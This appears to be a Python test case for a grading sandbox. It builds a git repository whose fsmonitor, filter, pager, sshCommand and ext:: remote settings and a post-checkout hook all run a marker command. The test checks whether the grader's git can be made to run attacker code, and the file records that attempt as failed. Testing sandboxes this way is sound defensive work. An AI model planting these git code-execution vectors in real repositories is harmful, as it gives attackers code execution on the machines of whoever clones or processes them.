"""A repository whose configuration, hooks and filters all name a program that writes where the child may not."""
# /// attack
# class = 63
# goal = "have git, run by the grader with the grader's rights, run a program of the attacker's"
# gain = "effect"
# kind = "driver"
# outcome = "failed"
# naive = true
# ///

import tempfile
from pathlib import Path

from gits import new_git

SOURCE = """
def standardise(x):
    return x
"""
RUN = "touch @OUTSIDE@/it_ran"


def build(folder):
    git = new_git(folder / "handed_in")
    git.commit({"work.py": SOURCE, ".gitattributes": "*.py filter=evil\n"})
    for key in ("core.fsmonitor", "filter.evil.smudge", "filter.evil.clean", "core.pager", "core.sshCommand"):
        git("config", key, RUN)
    git("config", "remote.origin.url", f"ext::sh -c {RUN}")
    hook = git.path / ".git/hooks/post-checkout"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f"#!/bin/sh\n{RUN}\n")
    hook.chmod(0o755)
    return git.path


def attack(arena):
    with tempfile.TemporaryDirectory() as name:
        report = arena.grade(build(Path(name)), commit="HEAD")
    return [f"earned {report.score.earned}"] if report.score is None or report.score.earned else []


def naive(arena):
    with tempfile.TemporaryDirectory() as name:
        return arena.gains(arena.naive(build(Path(name))))
